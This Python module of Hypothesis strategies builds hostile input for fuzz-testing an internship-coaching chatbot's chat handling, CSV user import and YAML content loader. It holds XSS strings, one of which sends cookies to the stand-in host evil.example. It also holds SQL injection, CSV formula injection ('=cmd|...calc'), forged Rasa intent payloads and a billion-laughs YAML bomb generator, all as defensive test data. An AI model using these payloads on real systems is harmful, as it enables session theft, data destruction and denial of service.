"""Hypothesis strategies for hostile input: chat messages, CSV files, content YAML.

Every strategy builds *structure* (a message made of risky pieces, a CSV with
rows and columns, a YAML document with topics and entries) rather than only
random bytes, so the examples reach the code behind the parsers.
"""
from __future__ import annotations

import csv
import io
import json
from typing import List

from hypothesis import strategies as st

from bot.topics import COACHING_TOPICS, CONTENT_LEERWEGEN, CONTENT_PHASES
from bot.users import HEADER

# --- chat messages ----------------------------------------------------------------

HTML_JS = [
    "<script>alert('xss')</script>",
    '<img src=x onerror="alert(1)">',
    "<a href=\"javascript:alert(document.cookie)\">klik</a>",
    "<svg/onload=alert(1)>",
    "\"><script>fetch('//evil.example/'+document.cookie)</script>",
    "{{ 7*7 }} {% raw %}",
    "<b>vet</b> <i>schuin</i> &amp; &lt;tag&gt;",
]
SQL = [
    "'; DROP TABLE reflections;--",
    "\" OR 1=1 --",
    "Robert'); DELETE FROM users WHERE ('1'='1",
    "1; UPDATE users SET role='coordinator'",
]
LANGUAGES = [
    "مرحبا، كيف أطلب ملاحظات من مشرفي؟",  # Arabic (right to left)
    "Stajımda daha fazla inisiyatif nasıl alırım?",  # Turkish
    "Jak mogę poprosić opiekuna o informację zwrotną? Zażółć gęślą jaźń",  # Polish
    "ከመምህረይ ርእይቶ ከመይ ክሓትት እኽእል?",  # Tigrinya (Ge'ez script)
    "How do I ask my supervisor for feedback?",
    "hoe laat ik zien dat ik initiatief neem?",
    "ik vind het lastig om feedback te vragen aan mijn begeleider",
    "wat verwachten ze van mij op mijn stage",
]
EMOJI = ["😀", "👍🏽", "👩‍💻", "👨‍👩‍👧‍👦", "🏳️‍🌈", "🇳🇱", "❤️", "🙂", "😭", "🤷‍♀️"]
CONTROL = ["\x00", "\r", "\r\n", "\t", "\x1b[31m", "\u200f", "\u202e", "\u200b", "\ufeff", "\x7f", "\u2028", "\x08"]
# Rasa's "/intent{entities}" syntax, as a student could type it (payloads the
# buttons use, and ones they never use).
RASA_PAYLOADS = [
    "/greet",
    "/restart",
    "/session_start",
    "/affirm",
    "/deny",
    "/start_reflection",
    "/pause",
    "/retry",
    "/report_unsafe",
    '/report_unsafe{"safety_categories": ["x"]}',
    '/inform{"week":"2024-W01"}',
    '/inform{"week":"2024-W01", "sender_id": "student-2"}',
    '/inform{"phase": ["during"], "leerweg": {"a": 1}}',
    '/inform{"phase": "<script>alert(1)</script>"}',
    '/inform{"leerweg": 123}',
    '/ask_feedback{"phase": null}',
    '/ask_privacy{"privacy_action":"delete_all"}',
    '/inform{"refl_week": "1999-W01", "refl_went_well": "forged"}',
    "/action_submit_reflection",
    "/nlu_fallback",
    "/not_an_intent",
    "/inform{not json",
    "/inform{\"phase\": \"during\"",
    "/",
    "//",
    "/greet@0.99",
    '/inform@1.0{"phase":"during"}',
]

plain_text = st.text(
    alphabet=st.characters(blacklist_categories=("Cs",)), min_size=0, max_size=80
)
risky_piece = st.one_of(
    st.sampled_from(HTML_JS),
    st.sampled_from(SQL),
    st.sampled_from(LANGUAGES),
    st.sampled_from(EMOJI),
    st.sampled_from(CONTROL),
    plain_text,
)


@st.composite
def messages(draw) -> str:
    """One student message: empty, whitespace, huge, a Rasa payload, or a mix of risky pieces."""
    kind = draw(st.sampled_from(["mix"] * 6 + ["payload", "payload", "empty", "space", "huge", "long"]))
    if kind == "empty":
        return ""
    if kind == "space":
        return draw(st.text(alphabet=" \t\n\r\u00a0\u2003\u200b", min_size=1, max_size=20))
    if kind == "payload":
        return draw(st.sampled_from(RASA_PAYLOADS))
    # Over the chat's 5,000-character limit; one long word keeps Rasa's NLU quick on
    # the REST channel (a 20,000-character text of many words has its own test).
    if kind == "huge":
        return draw(st.sampled_from(["x", "ab", "é"])) * draw(st.integers(2501, 6000))
    if kind == "long":
        return draw(st.sampled_from(["a" * 1000, "ik " * 100, "👩‍💻" * 50])) + " " + draw(risky_piece)
    pieces = draw(st.lists(risky_piece, min_size=1, max_size=5))
    return " ".join(pieces)


HUGE_MESSAGE = "x" * 20000  # more than the socket channel's 5,000-character limit


# --- users CSV ----------------------------------------------------------------------

ID_CHARS = "abcdefghijklmnopqrstuvwxyz0123456789-._@"
cell_text = st.one_of(
    st.text(min_size=0, max_size=30),
    st.sampled_from(["=cmd|' /C calc'!A0", "+1+1", "-2+3", "@SUM(A1:A2)", '"quoted, with comma"', "a\"b", "x\ny", ""]),
    st.sampled_from(HTML_JS + SQL),
)


@st.composite
def csv_rows(draw, prefix: str) -> List[List[str]]:
    """Rows that are mostly valid (a supervisor, students, a coordinator), sometimes broken."""
    rows: List[List[str]] = []
    supervisor = f"{prefix}-sup"
    rows.append(["supervisor", supervisor, "Begeleider " + draw(st.text(min_size=1, max_size=10)), "", "", "", ""])
    for index in range(draw(st.integers(0, 6))):
        rows.append(
            [
                "student",
                f"{prefix}-st{index}",
                draw(st.one_of(st.just("Lisa de Vries"), cell_text)),
                draw(st.sampled_from(["", "lisa@student.nl", "geen-mail", "a@b"])),
                draw(st.sampled_from([supervisor, "", "onbekend-sup"])),
                draw(st.sampled_from(["BOL", "BBL", "bol", "", "HBO"])),
                draw(st.one_of(st.just("Bakkerij"), cell_text)),
            ]
        )
    if draw(st.booleans()):
        rows.append(["coordinator", f"{prefix}-co", draw(cell_text), "", "", "", ""])
    # structural damage: missing or extra columns, a bad role, a duplicate id
    damage = draw(st.sampled_from(["none", "none", "missing", "extra", "role", "duplicate", "bad_id"]))
    if damage != "none" and rows:
        target = draw(st.integers(0, len(rows) - 1))
        row = list(rows[target])
        if damage == "missing":
            row = row[: draw(st.integers(1, 6))]
        elif damage == "extra":
            row = row + ["extra"] * draw(st.integers(1, 3))
        elif damage == "role":
            row[0] = draw(st.sampled_from(["admin", "", "Student ", "root"]))
        elif damage == "duplicate":
            rows.append(list(rows[target]))
        elif damage == "bad_id":
            row[1] = draw(st.sampled_from(["", "a b", "x" * 65, "ü-id", "<script>", "a,b"]))
        rows[target] = row
    return rows


@st.composite
def csv_files(draw, prefix: str = "fz"):
    """A whole file: header (sometimes wrong), rows, encoding, BOM, line endings,
    delimiter. Returns (bytes, rows, clean): `clean` when the bytes are exactly the
    rows, as UTF-8, under the right header."""
    # the csv module cannot write NUL; NUL bytes come with the byte damage below
    rows = [[cell.replace("\x00", "") for cell in row] for row in draw(csv_rows(prefix))]
    header = list(HEADER)
    header_damage = draw(st.sampled_from(["none"] * 6 + ["upper", "missing", "extra", "order", "absent"]))
    if header_damage == "upper":
        header = [h.upper() for h in header]
    elif header_damage == "missing":
        header = header[:-1]
    elif header_damage == "extra":
        header = header + ["notes"]
    elif header_damage == "order":
        header = header[1:] + header[:1]
    delimiter = draw(st.sampled_from([",", ",", ";"]))
    quoting = draw(st.sampled_from([csv.QUOTE_MINIMAL, csv.QUOTE_ALL]))
    newline = draw(st.sampled_from(["\n", "\r\n", "\r"]))
    out = io.StringIO()
    writer = csv.writer(out, delimiter=delimiter, quoting=quoting, lineterminator=newline)
    if header_damage != "absent":
        writer.writerow(header)
    writer.writerows(rows)
    text = out.getvalue()
    encoding = draw(st.sampled_from(["utf-8", "utf-8", "utf-8-sig", "utf-16", "latin-1", "cp1252"]))
    data = text.encode(encoding, errors="replace")
    damaged = draw(st.integers(0, 9)) == 0  # now and then: damage the bytes themselves
    if damaged:
        position = draw(st.integers(0, max(0, len(data) - 1)))
        data = data[:position] + draw(st.binary(min_size=1, max_size=8)) + data[position:]
    clean = not damaged and header_damage in ("none", "upper") and encoding in ("utf-8", "utf-8-sig")
    return data, rows, clean


# Cells that are valid for the import (any letters, commas, quotes, semicolons,
# formula-looking text), for files that must import completely.
valid_name = st.one_of(
    st.text(alphabet=st.characters(blacklist_categories=("Cc", "Cs", "Zl", "Zp")), min_size=1, max_size=40).filter(
        lambda t: t.strip()
    ),
    st.sampled_from(["=cmd|' /C calc'!A0", "Jansen, Sanne", 'Sanne "Sam" Jansen', "Zeynep Yılmaz; BOL", "@SUM(A1)"]),
)


@st.composite
def valid_csv_files(draw, prefix: str = "ok"):
    rows = [["supervisor", f"{prefix}-sup", draw(valid_name), "", "", "", ""]]
    for index in range(draw(st.integers(1, 5))):
        rows.append(
            ["student", f"{prefix}-st{index}", draw(valid_name), draw(st.sampled_from(["", "a.b@school.nl"])),
             f"{prefix}-sup", draw(st.sampled_from(["BOL", "BBL", "bbl"])), draw(valid_name)]
        )
    rows.append(["coordinator", f"{prefix}-co", draw(valid_name), "", "", "", ""])
    delimiter = draw(st.sampled_from([",", ";"]))
    quoting = draw(st.sampled_from([csv.QUOTE_MINIMAL, csv.QUOTE_ALL]))
    newline = draw(st.sampled_from(["\n", "\r\n", "\r"]))
    out = io.StringIO()
    writer = csv.writer(out, delimiter=delimiter, quoting=quoting, lineterminator=newline)
    writer.writerow(HEADER)
    writer.writerows(rows)
    encoding = draw(st.sampled_from(["utf-8", "utf-8-sig"]))
    return out.getvalue().encode(encoding), rows


# --- content YAML -------------------------------------------------------------------

SAFE_TEXT = "Vraag je begeleider om een kort gesprek over je werk."
yaml_scalar = st.one_of(
    st.text(min_size=0, max_size=40),
    st.integers(),
    st.booleans(),
    st.none(),
    st.sampled_from(["x" * 400, "{naam}", "{voornaam!r}", "{{", "<script>alert(1)</script>", "\t"]),
)
yaml_value = st.recursive(
    yaml_scalar,
    lambda children: st.one_of(
        st.lists(children, max_size=4),
        st.dictionaries(st.text(min_size=1, max_size=8), children, max_size=3),
    ),
    max_leaves=8,
)


def good_entry(phase: str = "during", leerweg: str = "any") -> dict:
    return {
        "phase": phase,
        "leerweg": leerweg,
        "acknowledge": ["Goed dat je dit vraagt."],
        "tips": [SAFE_TEXT, "Schrijf op wat je hebt geleerd."],
        "why": "Zo laat je zien dat je wilt leren.",
        "micro_goal": "Vraag deze week een keer om feedback.",
        "related": [],
    }


@st.composite
def content_entries(draw) -> dict:
    entry = good_entry(draw(st.sampled_from(CONTENT_PHASES + ("sometimes", ""))), draw(st.sampled_from(CONTENT_LEERWEGEN + ("HBO",))))
    for field in draw(st.lists(st.sampled_from(sorted(entry) + ["extra_field"]), max_size=3, unique=True)):
        entry[field] = draw(yaml_value)
    return entry


@st.composite
def content_documents(draw) -> dict:
    document = {
        "topic": draw(st.one_of(st.sampled_from(COACHING_TOPICS), yaml_value)),
        "label": draw(st.one_of(st.just("Feedback"), yaml_value)),
        "entries": draw(st.one_of(st.lists(content_entries(), min_size=1, max_size=3), yaml_value)),
    }
    return document


def yaml_bomb(levels: int = 9, width: int = 9) -> str:
    """The "billion laughs" alias bomb, pointed at the topic field."""
    lines = ['l0: &l0 ["lol"' + ', "lol"' * (width - 1) + "]"]
    for level in range(1, levels):
        lines.append(f"l{level}: &l{level} [" + ", ".join([f"*l{level - 1}"] * width) + "]")
    lines.append(f"topic: *l{levels - 1}")
    lines.append(f"label: *l{levels - 1}")
    lines.append("entries:")
    lines.append(f"  - phase: *l{levels - 1}")
    lines.append(f"    leerweg: *l{levels - 1}")
    return "\n".join(lines) + "\n"


def as_json_line(value) -> str:
    return json.dumps(value, ensure_ascii=False)
